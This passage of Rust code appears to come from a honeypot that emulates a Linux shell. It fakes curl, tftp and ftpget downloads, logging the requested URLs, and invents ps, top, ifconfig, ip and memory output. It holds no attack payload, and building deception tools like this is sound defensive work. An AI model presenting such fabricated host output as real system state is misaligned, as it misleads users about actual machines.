        for url in urls.into_iter().take(MAX_DOWNLOADS) {
            let url = with_scheme(url, "http");
            let save = outfile
                .filter(|f| *f != "-")
                .map(str::to_owned)
                .or_else(|| {
                    remote_name.then(|| url_file_name(&url).unwrap_or("curl_response").to_owned())
                });
            self.record(&mut o, url.clone(), save.as_deref(), "curl");
            let (host, port) = host_port(&url);
            if !silent && save.is_some() {
                o.err.push_str("  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n                                 Dload  Upload   Total   Spent    Left  Speed\n  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\n");
            }
            let (msg, status) = if is_ip(host) {
                (
                    format!(
                        "curl: (7) Failed to connect to {host} port {port} after 0 ms: Couldn't connect to server\n"
                    ),
                    7,
                )
            } else {
                (format!("curl: (6) Could not resolve host: {host}\n"), 6)
            };
            if !silent || show_error {
                o.err.push_str(&msg);
            }
            o.status = status;
        }
        o
    }

    fn tftp(&mut self, args: &[&str], busybox: bool) -> Output {
        let bb_style = args.iter().any(|a| {
            matches!(*a, "-g" | "-p" | "-r" | "-l")
                || (a.starts_with('-') && a.contains('g') && a.contains('r'))
        });
        let tool = if busybox { "busybox tftp" } else { "tftp" };
        let mut o = Output::default();
        if bb_style {
            let mut remote = None;
            let mut local = None;
            let mut host = None;
            let mut it = args.iter().copied();
            while let Some(a) = it.next() {
                match a {
                    "-r" => remote = it.next(),
                    "-l" => local = it.next(),
                    a if a.starts_with('-') && a.ends_with('r') && a.len() > 2 => {
                        remote = it.next();
                    }
                    a if a.starts_with('-') => {}
                    a if host.is_none() => host = Some(a),
                    _ => {}
                }
            }
            if let (Some(h), Some(r)) = (host, remote.or(local)) {
                let save = local.or(remote).map(|f| fs::base_name(f).to_owned());
                self.record(
                    &mut o,
                    format!("tftp://{h}/{}", r.trim_start_matches('/')),
                    save.as_deref(),
                    tool,
                );
            }
            if busybox {
                o.err.push_str("tftp: timeout\n");
            } else {
                // tftp-hpa has no -g/-r: it prints its usage.
                o.err.push_str("usage: tftp [-4][-6][-v][-V][-l][-m mode][-w size][-B blocksize][-R port:port] [host [port]] [-c command]\n");
            }
            o.status = 1;
            return o;
        }
        // tftp-hpa: `tftp HOST [PORT] -c get FILE [LOCAL]`.
        let host = args.iter().copied().find(|a| !a.starts_with('-'));
        let c = args.iter().position(|a| *a == "-c");
        let cmd: Vec<&str> = c.map(|i| args[i + 1..].to_vec()).unwrap_or_default();
        if let (Some(h), Some(&"get"), Some(file)) = (host, cmd.first(), cmd.get(1)) {
            let local = cmd.get(2).copied().unwrap_or_else(|| fs::base_name(file));
            self.record(
                &mut o,
                format!("tftp://{h}/{}", file.trim_start_matches('/')),
                Some(local),
                tool,
            );
            o.err.push_str("Transfer timed out.\n\n");
            o.status = 1;
        }
        o
    }

    fn ftpget(&mut self, args: &[&str], busybox: bool) -> Output {
        let ops = operands(args, &["-u", "-p", "-P"]);
        let mut o = Output::default();
        let Some(host) = ops.first() else {
            return Output::fail("BusyBox v1.35.0 (Debian 1:1.35.0-4+b3) multi-call binary.\n\nUsage: ftpget [OPTIONS] HOST [LOCAL_FILE] REMOTE_FILE\n\nDownload a file via FTP\n".into(), 1);
        };
        let local = ops.get(1).copied();
        let remote = ops.get(2).copied().or(local).unwrap_or("");
        let tool = if busybox { "busybox ftpget" } else { "ftpget" };
        let save = local
            .or(Some(fs::base_name(remote)))
            .filter(|f| !f.is_empty());
        self.record(
            &mut o,
            format!("ftp://{host}/{}", remote.trim_start_matches('/')),
            save,
            tool,
        );
        o.err = if is_ip(host) {
            format!("ftpget: can't connect to remote host ({host}): Connection refused\n")
        } else {
            format!("ftpget: bad address '{host}'\n")
        };
        o.status = 1;
        o
    }
}

/// Arguments that are not options (nor the values of `value_flags`).
fn operands<'a>(args: &[&'a str], value_flags: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut it = args.iter().copied();
    let mut only_operands = false;
    while let Some(a) = it.next() {
        if only_operands {
            out.push(a);
        } else if a == "--" {
            only_operands = true;
        } else if value_flags.contains(&a) {
            it.next();
        } else if a.len() > 1 && a.starts_with('-') {
            continue;
        } else {
            out.push(a);
        }
    }
    out
}

/// Shell glob match of `name` against `pat` (`*`, `?`; no brackets). Linear backtracking.
fn wildcard(pat: &str, name: &str) -> bool {
    let p: Vec<char> = pat.chars().collect();
    let n: Vec<char> = name.chars().collect();
    let (mut i, mut j) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while j < n.len() {
        if i < p.len() && (p[i] == '?' || p[i] == n[j]) {
            i += 1;
            j += 1;
        } else if i < p.len() && p[i] == '*' {
            star = Some((i, j));
            i += 1;
        } else if let Some((si, sj)) = star {
            i = si + 1;
            j = sj + 1;
            star = Some((si, sj + 1));
        } else {
            return false;
        }
    }
    while i < p.len() && p[i] == '*' {
        i += 1;
    }
    i == p.len()
}

/// A `chmod` mode: octal (`755`) or symbolic (`u+x`, `go=`, `a-w,u+r`, `+x`).
fn parse_mode(spec: &str, old: u32, is_dir: bool) -> Option<u32> {
    if !spec.is_empty() && spec.len() <= 4 && spec.chars().all(|c| ('0'..='7').contains(&c)) {
        return u32::from_str_radix(spec, 8).ok();
    }
    let mut mode = old;
    for clause in spec.split(',') {
        let who_end = clause.find(['+', '-', '='])?;
        let who = &clause[..who_end];
        if !who.chars().all(|c| "ugoa".contains(c)) {
            return None;
        }
        let mask = if who.is_empty() || who.contains('a') {
            0o777
        } else {
            let mut m = 0;
            for c in who.chars() {
                m |= match c {
                    'u' => 0o700,
                    'g' => 0o070,
                    _ => 0o007,
                };
            }
            m
        };
        let mut rest = &clause[who_end..];
        while let Some(op) = rest.chars().next() {
            rest = &rest[1..];
            let end = rest.find(['+', '-', '=']).unwrap_or(rest.len());
            let perms = &rest[..end];
            rest = &rest[end..];
            let mut bits = 0;
            for c in perms.chars() {
                bits |= match c {
                    'r' => 0o444,
                    'w' => 0o222,
                    'x' => 0o111,
                    'X' if is_dir || old & 0o111 != 0 => 0o111,
                    'X' | 's' | 't' => 0,
                    _ => return None,
                };
            }
            let bits = bits & mask;
            mode = match op {
                '+' => mode | bits,
                '-' => mode & !bits,
                _ => (mode & !mask) | bits,
            };
        }
    }
    Some(mode)
}

fn is_ip(host: &str) -> bool {
    host.trim_start_matches('[')
        .trim_end_matches(']')
        .parse::<std::net::IpAddr>()
        .is_ok()
}

fn with_scheme(url: &str, scheme: &str) -> String {
    if url.contains("://") {
        url.to_owned()
    } else {
        format!("{scheme}://{url}")
    }
}

/// Host and port of a URL (the scheme's default port when none is given).
fn host_port(url: &str) -> (&str, u16) {
    let (scheme, rest) = url.split_once("://").unwrap_or(("http", url));
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let authority = authority.rsplit('@').next().unwrap_or(authority);
    let default = match scheme {
        "https" => 443,
        "ftp" => 21,
        _ => 80,
    };
    match authority.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') || h.ends_with(']') => (h, p.parse().unwrap_or(default)),
        _ => (authority, default),
    }
}

/// The file name a URL would be saved as (`None`: it names a directory).
fn url_file_name(url: &str) -> Option<&str> {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let path = rest.split(['?', '#']).next().unwrap_or(rest);
    let (_, path) = path.split_once('/')?;
    let name = path.rsplit('/').next().unwrap_or(path);
    (!name.is_empty()).then_some(name)
}

fn human_size(n: u64) -> String {
    if n < 1024 {
        return n.to_string();
    }
    let units = ['K', 'M', 'G', 'T'];
    let mut v = n as f64 / 1024.0;
    let mut u = 0;
    while v >= 1024.0 && u + 1 < units.len() {
        v /= 1024.0;
        u += 1;
    }
    if v < 10.0 {
        format!("{:.1}{}", (v * 10.0).ceil() / 10.0, units[u])
    } else {
        format!("{}{}", v.ceil() as u64, units[u])
    }
}

fn ls_date(mtime: i64, now: i64) -> String {
    let Some(t) = chrono::DateTime::<chrono::Utc>::from_timestamp(mtime, 0) else {
        return "Jan  1  1970".into();
    };
    if (now - mtime).abs() < 180 * 86_400 {
        t.format("%b %e %H:%M").to_string()
    } else {
        t.format("%b %e  %Y").to_string()
    }
}

fn date(now: chrono::DateTime<chrono::Utc>, args: &[&str]) -> String {
    use std::fmt::Write;
    let fmt = args
        .iter()
        .find_map(|a| a.strip_prefix('+'))
        .unwrap_or("%a %b %e %H:%M:%S UTC %Y");
    let mut s = String::new();
    // An invalid specifier makes chrono's formatter fail: print the format as typed.
    if write!(s, "{}", now.format(cut(fmt, 256))).is_err() {
        s = fmt.to_owned();
    }
    s.push('\n');
    s
}

fn ps(args: &[&str], user: &str) -> String {
    let full = args
        .iter()
        .any(|a| a.contains('a') || a.contains('e') || a.contains('x'));
    if !full {
        return format!(
            "    PID TTY          TIME CMD\n   {SHELL_PID} pts/0    00:00:00 bash\n   {} pts/0    00:00:00 ps\n",
            SHELL_PID + 27
        );
    }
    let bsd = args.iter().any(|a| !a.starts_with('-') || a.contains('u'));
    let mut out = String::new();
    let mut rows: Vec<(u32, &str, &str)> = PROCS.to_vec();
    rows.push((SHELL_PID, user, "-bash"));
    rows.push((SHELL_PID + 27, user, if bsd { "ps aux" } else { "ps -ef" }));
    if bsd {
        out.push_str(
            "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n",
        );
        for (pid, u, cmd) in rows {
            let kernel = cmd.starts_with('[');
            let tty = if pid >= SHELL_PID { "pts/0" } else { "?" };
            out.push_str(&format!(
                "{u:<8} {pid:>7}  0.0  {:>3} {:>6} {:>5} {tty:<8} {:<4} Oct03   0:00 {cmd}\n",
                if kernel { "0.0" } else { "0.1" },
                if kernel { 0 } else { 16_000 + pid * 7 },
                if kernel { 0 } else { 4_000 + pid * 3 },
                if kernel {
                    "I<"
                } else if pid > SHELL_PID {
                    "R+"
                } else {
                    "Ss"
                },
            ));
        }
    } else {
        out.push_str("UID          PID    PPID  C STIME TTY          TIME CMD\n");
        for (pid, u, cmd) in rows {
            let ppid = match pid {
                1 | 2 => 0,
                3..=99 => 2,
                SHELL_PID => 2701,
                p if p > SHELL_PID => SHELL_PID,
                _ => 1,
            };
            let tty = if pid >= SHELL_PID { "pts/0" } else { "?" };
            out.push_str(&format!(
                "{u:<8} {pid:>7} {ppid:>7}  0 Oct03 {tty:<8} 00:00:00 {cmd}\n"
            ));
        }
    }
    out
}

fn top(p: &HostProfile, now: chrono::DateTime<chrono::Utc>, user: &str) -> String {
    let total = p.mem_kb as f64 / 1024.0;
    let swap = p.swap_kb as f64 / 1024.0;
    let mut out = format!(
        "top - {} up {} days,  3:12,  1 user,  load average: 0.08, 0.03, 0.01\n\
         Tasks: {} total,   1 running, {} sleeping,   0 stopped,   0 zombie\n\
         %Cpu(s):  0.0 us,  3.1 sy,  0.0 ni, 96.9 id,  0.0 wa,  0.0 hi,  0.0 si,  0.0 st\n\
         MiB Mem : {total:>8.1} total, {:>8.1} free, {:>8.1} used, {:>8.1} buff/cache\n\
         MiB Swap: {swap:>8.1} total, {swap:>8.1} free, {:>8.1} used. {:>8.1} avail Mem\n\n\
         \x20   PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND\n",
        now.format("%H:%M:%S"),
        p.uptime_days,
        PROCS.len() + 2,
        PROCS.len() + 1,
        total * 0.52,
        total * 0.18,
        total * 0.30,
        0.0,
        total * 0.78,
    );
    out.push_str(&format!(
        "{:>7} {user:<8}  20   0    9000   3900   3300 R   0.0   0.1   0:00.01 top\n",
        SHELL_PID + 27
    ));
    for (pid, u, cmd) in PROCS {
        let name = cmd
            .trim_matches(['[', ']'])
            .split(' ')
            .next()
            .unwrap_or(cmd);
        let name = name
            .rsplit('/')
            .next()
            .unwrap_or(name)
            .trim_end_matches(':');
        out.push_str(&format!(
            "{pid:>7} {u:<8}  20   0  {:>6} {:>6} {:>6} S   0.0   0.1   0:0{}.{:02} {name}\n",
            16_000 + pid * 7,
            4_000 + pid * 3,
            3_000 + pid,
            pid % 10,
            pid % 100
        ));
    }
    out
}

/// The host's address on its private network, stable per profile.
fn addr(p: &HostProfile) -> (u8, u8) {
    let h = p
        .hostname
        .bytes()
        .fold(7u32, |a, b| a.wrapping_mul(31).wrapping_add(u32::from(b)));
    ((h % 200) as u8 + 10, (h / 200 % 240) as u8 + 10)
}

fn ifconfig(p: &HostProfile) -> String {
    let (a, b) = addr(p);
    format!(
        "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 10.0.{a}.{b}  netmask 255.255.255.0  broadcast 10.0.{a}.255\n        inet6 fe80::5054:ff:fe{a:02x}:{b:02x}  prefixlen 64  scopeid 0x20<link>\n        ether 52:54:00:{a:02x}:{b:02x}:3c  txqueuelen 1000  (Ethernet)\n        RX packets 4021937  bytes 1302458871 (1.2 GiB)\n        RX errors 0  dropped 0  overruns 0  frame 0\n        TX packets 2713302  bytes 512309446 (488.5 MiB)\n        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0\n\n\
lo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n        inet6 ::1  prefixlen 128  scopeid 0x10<host>\n        loop  txqueuelen 1000  (Local Loopback)\n        RX packets 1024  bytes 88412 (86.3 KiB)\n        RX errors 0  dropped 0  overruns 0  frame 0\n        TX packets 1024  bytes 88412 (86.3 KiB)\n        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0\n\n"
    )
}

fn ip(p: &HostProfile, args: &[&str]) -> Output {
    let (a, b) = addr(p);
    let obj = args
        .iter()
        .copied()
        .find(|x| !x.starts_with('-'))
        .unwrap_or("");
    match obj {
        "a" | "addr" | "address" => Output::ok(format!(
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n       valid_lft forever preferred_lft forever\n    inet6 ::1/128 scope host noprefixroute\n       valid_lft forever preferred_lft forever\n\
2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000\n    link/ether 52:54:00:{a:02x}:{b:02x}:3c brd ff:ff:ff:ff:ff:ff\n    altname enp0s3\n    inet 10.0.{a}.{b}/24 brd 10.0.{a}.255 scope global dynamic eth0\n       valid_lft 80412sec preferred_lft 80412sec\n    inet6 fe80::5054:ff:fe{a:02x}:{b:02x}/64 scope link\n       valid_lft forever preferred_lft forever\n"
        )),
        "r" | "ro" | "route" => Output::ok(format!(
            "default via 10.0.{a}.1 dev eth0\n10.0.{a}.0/24 dev eth0 proto kernel scope link src 10.0.{a}.{b}\n"
        )),
        "l" | "link" => Output::ok(format!(
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP mode DEFAULT group default qlen 1000\n    link/ether 52:54:00:{a:02x}:{b:02x}:3c brd ff:ff:ff:ff:ff:ff\n"
        )),
        "" => Output::fail("Usage: ip [ OPTIONS ] OBJECT { COMMAND | help }\n       ip [ -force ] -batch filename\nwhere  OBJECT := { address | addrlabel | amt | fou | help | ila | ioam | l2tp | link |\n                   macsec | maddress | monitor | mptcp | mroute | mrule |\n                   neighbor | neighbour | netconf | netns | nexthop | ntable |\n                   ntbl | route | rule | sr | tap | tcpmetrics |\n                   token | tunnel | tuntap | vrf | xfrm }\n".into(), 255),
        o => Output::fail(format!("Object \"{o}\" is unknown, try \"ip help\".\n"), 1),
    }
}

fn kill(args: &[&str]) -> Output {
    let targets: Vec<&str> = args
        .iter()
        .copied()
        .filter(|a| !a.starts_with('-'))
        .collect();
    if targets.is_empty() {
        return Output::fail("kill: usage: kill [-s sigspec | -n signum | -sigspec] pid | jobspec ... or kill -l [sigspec]\n".into(), 2);
    }
    let mut o = Output::default();
    for t in targets {
        match t.parse::<u32>() {
            Ok(pid) if pid == SHELL_PID || PROCS.iter().any(|(p, _, _)| *p == pid) => {}
            Ok(_) => {
                o.err
                    .push_str(&format!("-bash: kill: ({t}) - No such process\n"));
                o.status = 1;
            }
            Err(_) => {
                o.err.push_str(&format!(
                    "-bash: kill: {t}: arguments must be process or job IDs\n"
                ));
                o.status = 1;
            }
        }
    }
    o
}

fn pkill(name: &str, args: &[&str]) -> Output {
    let full = args.contains(&"-f");
    let pats = operands(args, &["-u", "-s", "-g", "-P", "-t", "--signal"]);
    let Some(pat) = pats.first() else {
        return Output::fail(
            if name == "pkill" {
                "pkill: no matching criteria specified\nTry `pkill --help' for more information.\n"
                    .into()
            } else {
                "Usage: killall [OPTION]... [--] NAME...\n".into()
            },
            if name == "pkill" { 2 } else { 1 },
        );
    };
    let hit = PROCS.iter().any(|(_, _, cmd)| {
        let comm = cmd
            .split(' ')
            .next()
            .unwrap_or(cmd)
            .rsplit('/')
            .next()
            .unwrap_or(cmd);
        if full {
            cmd.contains(pat)
        } else if name == "killall" {
            comm == *pat
        } else {
            comm.contains(pat)
        }
    });
    match (hit, name) {
        (true, _) => Output::default(),
        (false, "killall") => Output::fail(format!("{pat}: no process found\n"), 1),
        (false, _) => Output::fail(String::new(), 1),
    }
}

fn busybox_banner() -> String {
    let mut s = String::from(
        "BusyBox v1.35.0 (Debian 1:1.35.0-4+b3) multi-call binary.\n\
         BusyBox is copyrighted by many authors between 1998-2015.\n\
         Licensed under GPLv2. See source distribution for detailed\n\
         copyright notices.\n\n\
         Usage: busybox [function [arguments]...]\n\
         \x20  or: busybox --list[-full]\n\
         \x20  or: busybox --show SCRIPT\n\
         \x20  or: busybox --install [-s] [DIR]\n\
         \x20  or: function [arguments]...\n\n\
         \tBusyBox is a multi-call binary that combines many common Unix\n\
         \tutilities into a single executable.  Most people will create a\n\
         \tlink to busybox for each function they wish to use and BusyBox\n\
         \twill act like whatever it was invoked as.\n\n\
         Currently defined functions:\n",
    );
    s.push('\t');
    s.push_str(&BUSYBOX_APPLETS.join(", "));
    s.push_str("\n\n");
    s
}

fn base64_cmd(args: &[&str], text: &str) -> Output {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    if args
        .iter()
        .any(|a| matches!(*a, "-d" | "--decode" | "-di" | "-id"))
    {
        let mut out = Vec::new();
        let mut acc = 0u32;
        let mut bits = 0;
        for c in text.bytes() {
            let v = match c {
                b'=' | b'\n' | b'\r' | b' ' => continue,
                _ => match T.iter().position(|t| *t == c) {
                    Some(v) => v as u32,
                    None => {
                        return Output {
                            out: String::from_utf8_lossy(&out).into_owned(),
                            err: "base64: invalid input\n".into(),
                            status: 1,
                            ..Output::default()
                        };
                    }
                },
            };
            acc = (acc << 6) | v;
            bits += 6;
            if bits >= 8 {
                bits -= 8;
                out.push((acc >> bits) as u8);
                acc &= (1 << bits) - 1;
            }
        }
        return Output::ok(String::from_utf8_lossy(&out).into_owned());
    }
    // Lines of 76, as GNU base64 wraps them.
    let enc = crate::alert::smtp::base64(text.as_bytes());
    let mut out = String::with_capacity(enc.len() + enc.len() / 76 + 1);
    for line in enc.as_bytes().chunks(76) {
        out.push_str(std::str::from_utf8(line).unwrap_or_default());
        out.push('\n');
    }
    if out.is_empty() {
        out.push('\n');
    }
    Output::ok(out)
}

fn tail(args: &[&str], stdin: &str) -> String {
    let n = num_arg(args, "-n", 10);
    let lines: Vec<&str> = stdin.lines().collect();
    lines[lines.len().saturating_sub(n)..]
        .iter()
        .map(|l| format!("{l}\n"))
        .collect()
}

pub(crate) fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

pub(crate) fn cut(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

fn truncate_bounded(s: &mut String) {
    let keep = cut(s, MAX_OUTPUT).len();
    s.truncate(keep);
}

fn push_bounded(dst: &mut String, src: &str) {
    let room = MAX_OUTPUT.saturating_sub(dst.len());
    dst.push_str(cut(src, room));
}

/// `echo` with `-n`, `-e` (backslash escapes incl. `\xHH`, `\0NNN`) and `-E`.
fn echo(args: &[&str]) -> String {
    let mut newline = true;
    let mut escapes = false;
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a.len() > 1 && a.starts_with('-') && a[1..].chars().all(|c| "neE".contains(c)) {
            for c in a[1..].chars() {
                match c {
                    'n' => newline = false,
                    'e' => escapes = true,
                    _ => escapes = false,
                }
            }
            i += 1;
        } else {
            break;
        }
    }
    let text = args[i..].join(" ");
    let mut out = if escapes { unescape(&text) } else { text };
    if newline {
        out.push('\n');
    }
    out
}

/// Interpret backslash escapes as bash's `echo -e` does. Invalid escapes stay literal.
fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('\\') => out.push('\\'),
            Some('a') => out.push('\x07'),
            Some('e') => out.push('\x1b'),
            Some('x') => {
                let mut v = 0u32;
                let mut n = 0;
                while n < 2 {
                    match chars.peek().and_then(|c| c.to_digit(16)) {
                        Some(d) => {
                            v = v * 16 + d;
                            chars.next();
                            n += 1;
                        }
                        None => break,
                    }
                }
                if n == 0 {
                    out.push_str("\\x");
                } else {
                    out.push(char::from_u32(v).unwrap_or('?'));
                }
            }
            Some('0') => {
                let mut v = 0u32;
                for _ in 0..3 {
                    match chars.peek().and_then(|c| c.to_digit(8)) {
                        Some(d) => {
                            v = v * 8 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                out.push(char::from_u32(v & 0xff).unwrap_or('?'));
            }
            Some(o) => {
                out.push('\\');
                out.push(o);
            }
            None => out.push('\\'),
        }
    }
    out
}

fn uname(p: &HostProfile, args: &[&str]) -> String {
    let mut flags = String::new();
    for a in args {
        match *a {
            "--all" => flags.push('a'),
            "--kernel-release" => flags.push('r'),
            "--machine" => flags.push('m'),
            "--nodename" => flags.push('n'),
            "--kernel-name" => flags.push('s'),
            a if a.starts_with('-') => flags.push_str(&a[1..]),
            _ => {}
        }
    }
    if flags.contains('a') {
        return format!(
            "Linux {} {} {} x86_64 GNU/Linux\n",
            p.hostname, p.kernel_release, p.kernel_version
        );
    }
    let mut parts = Vec::new();
    for (f, v) in [
        ('s', "Linux"),
        ('n', p.hostname.as_str()),
        ('r', p.kernel_release),
        ('v', p.kernel_version),
        ('m', "x86_64"),
        ('p', "unknown"),
        ('i', "unknown"),
        ('o', "GNU/Linux"),
    ] {
        if flags.contains(f) {
            parts.push(v);
        }
    }
    if parts.is_empty() {
        parts.push("Linux");
    }
    format!("{}\n", parts.join(" "))
}

fn free(p: &HostProfile, args: &[&str]) -> String {
    let div = if args.contains(&"-g") {
        1024 * 1024
    } else if args.contains(&"-m") || args.contains(&"-h") {
        1024
    } else {
        1
    };
    let total = p.mem_kb / div;
    let used = p.mem_kb * 18 / 100 / div;
    let free = p.mem_kb * 52 / 100 / div;
    let shared = p.mem_kb / 100 / div;
    let cache = total - used - free;
    let avail = p.mem_kb * 78 / 100 / div;
    let swap = p.swap_kb / div;
    format!(
        "               total        used        free      shared  buff/cache   available\n\
         Mem:     {total:>11} {used:>11} {free:>11} {shared:>11} {cache:>11} {avail:>11}\n\
         Swap:    {swap:>11} {:>11} {swap:>11}\n",
        0
    )
}

fn grep(args: &[&str], stdin: &str) -> Output {
    let mut invert = false;
    let mut ignore_case = false;
    let mut count = false;
    let mut pattern = None;
    for a in args {
        if a.starts_with('-') && a.len() > 1 && pattern.is_none() {
            invert |= a.contains('v');
            ignore_case |= a.contains('i');
            count |= a.contains('c');
        } else if pattern.is_none() {
            pattern = Some(*a);
        }
    }
    let Some(pat) = pattern else {
        return Output {
            err: "Usage: grep [OPTION]... PATTERNS [FILE]...\n".into(),
            status: 2,
            ..Output::default()
        };
    };
    let pat_l = pat.to_lowercase();
    let mut out = String::new();
    let mut n = 0;
    for line in stdin.lines() {
        let hit = if ignore_case {
            line.to_lowercase().contains(&pat_l)
        } else {
            line.contains(pat)
        };
        if hit != invert {
            n += 1;
            if !count {
                out.push_str(line);
                out.push('\n');
            }
        }
    }
    if count {
        out = format!("{n}\n");
    }
    Output {
        out,
        status: i32::from(n == 0),
        ..Output::default()
    }
}

fn num_arg(args: &[&str], flag: &str, default: usize) -> usize {
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if *a == flag {
            return it.next().and_then(|v| v.parse().ok()).unwrap_or(default);
        }
        if let Some(v) = a.strip_prefix(flag) {
            return v.parse().unwrap_or(default);
        }
        if let Some(v) = a
            .strip_prefix('-')
            .filter(|v| v.chars().all(|c| c.is_ascii_digit()))
        {
            return v.parse().unwrap_or(default);
        }
    }
    default
}

fn head(args: &[&str], stdin: &str) -> String {
    let n = num_arg(args, "-n", 10);
    stdin.lines().take(n).map(|l| format!("{l}\n")).collect()
}

fn wc(args: &[&str], stdin: &str) -> String {
    let lines = stdin.matches('\n').count();
    let words = stdin.split_whitespace().count();
    let bytes = stdin.len();
    match args.first() {
        Some(&"-l") => format!("{lines}\n"),
        Some(&"-w") => format!("{words}\n"),
        Some(&"-c") => format!("{bytes}\n"),
        _ => format!("{lines:>7} {words:>7} {bytes:>7}\n"),
    }
}

/// The `awk` that bots use: `'{print $N, ...}'` with an optional `NR == K` / `FNR == K`
/// condition and `-F` separator. Anything else prints nothing.
fn awk(args: &[&str], stdin: &str) -> String {
    let mut sep: Option<String> = None;
    let mut prog = None;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if *a == "-F" {
            sep = it.next().map(|s| (*s).to_owned());
        } else if let Some(s) = a.strip_prefix("-F") {
            sep = Some(s.to_owned());
        } else if prog.is_none() {
            prog = Some(*a);
        }
    }
    let Some(prog) = prog else {
        return String::new();
    };
    let (cond, body) = match prog.split_once('{') {
        Some((c, b)) => (c.trim(), b.trim_end().trim_end_matches('}')),
        None => return String::new(),
    };
    let want_line: Option<usize> = cond
        .split_once("==")
        .and_then(|(_, n)| n.trim().parse().ok());
    let body = body.trim().trim_end_matches(';').trim();
    let Some(fields) = body.strip_prefix("print") else {
        return String::new();
    };
    let fields: Vec<&str> = fields
        .split(',')
        .map(str::trim)
        .filter(|f| !f.is_empty())
        .collect();
    let mut out = String::new();
    for (i, line) in stdin.lines().enumerate() {
        if want_line.is_some_and(|n| n != i + 1) {
            continue;
        }
        let cols: Vec<&str> = match &sep {
            Some(s) if !s.is_empty() => line.split(s.as_str()).collect(),
            _ => line.split_whitespace().collect(),
        };
        let vals: Vec<String> = if fields.is_empty() {
            vec![line.to_owned()]
        } else {
            fields
                .iter()
                .map(|f| {
                    match f
                        .strip_prefix('$')
                        .and_then(|n| n.trim().parse::<usize>().ok())
                    {
                        Some(0) => line.to_owned(),
                        Some(n) => cols.get(n - 1).copied().unwrap_or("").to_owned(),
                        None => f.trim_matches('"').to_owned(),
                    }
                })
                .collect()
        };
        out.push_str(&vals.join(" "));
        out.push('\n');
        if out.len() > MAX_OUTPUT {
            break;
        }
    }
    out
}

fn cut_cmd(args: &[&str], stdin: &str) -> String {
    let mut delim = "\t".to_owned();
    let mut field = 1usize;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if *a == "-d" {
            delim = it.next().map(|s| (*s).to_owned()).unwrap_or_default();
        } else if let Some(d) = a.strip_prefix("-d") {
            delim = d.to_owned();
        } else if *a == "-f" {
            field = it.next().and_then(|f| f.parse().ok()).unwrap_or(1);
        } else if let Some(f) = a.strip_prefix("-f") {
            field = f.parse().unwrap_or(1);
        }
    }
    let field = field.max(1);
    let mut out = String::new();
    for line in stdin.lines() {
        if delim.is_empty() || !line.contains(delim.as_str()) {
            out.push_str(line);
        } else {
            out.push_str(line.split(delim.as_str()).nth(field - 1).unwrap_or(""));
        }
        out.push('\n');
    }
    out
}

fn uptime_line(p: &HostProfile, now: chrono::DateTime<chrono::Utc>) -> String {
    format!(
        " {} up {} days,  3:12,  1 user,  load average: 0.08, 0.03, 0.01\n",
        now.format("%H:%M:%S"),
        p.uptime_days
    )
}

fn w(p: &HostProfile, user: &str, now: chrono::DateTime<chrono::Utc>) -> String {
    format!(
        "{}USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n\
         {user:<8} pts/0    -                {}    0.00s  0.01s  0.00s w\n",
        uptime_line(p, now),
        now.format("%H:%M"),
    )
}

fn df(p: &HostProfile) -> String {
    let size = p.disk_gb;
    let used = size * 23 / 100;
    let avail = size - used - size / 20;
    let pct = used * 100 / size.max(1);
    format!(
        "Filesystem      Size  Used Avail Use% Mounted on\n\
         udev            {m}M     0  {m}M   0% /dev\n\
         tmpfs           {t}M  572K  {t}M   1% /run\n\
         /dev/sda1        {size}G  {used}G  {avail}G  {pct}% /\n\
         tmpfs           {m}M     0  {m}M   0% /dev/shm\n",
        m = p.mem_kb / 1024 / 2,
        t = p.mem_kb / 1024 / 10,
    )
}

fn lscpu(p: &HostProfile) -> String {
    format!(
        "Architecture:            x86_64\n\
         \x20 CPU op-mode(s):        32-bit, 64-bit\n\
         \x20 Address sizes:         46 bits physical, 48 bits virtual\n\
         \x20 Byte Order:            Little Endian\n\
         CPU(s):                  {cpus}\n\
         \x20 On-line CPU(s) list:   0-{last}\n\
         Vendor ID:               {vendor}\n\
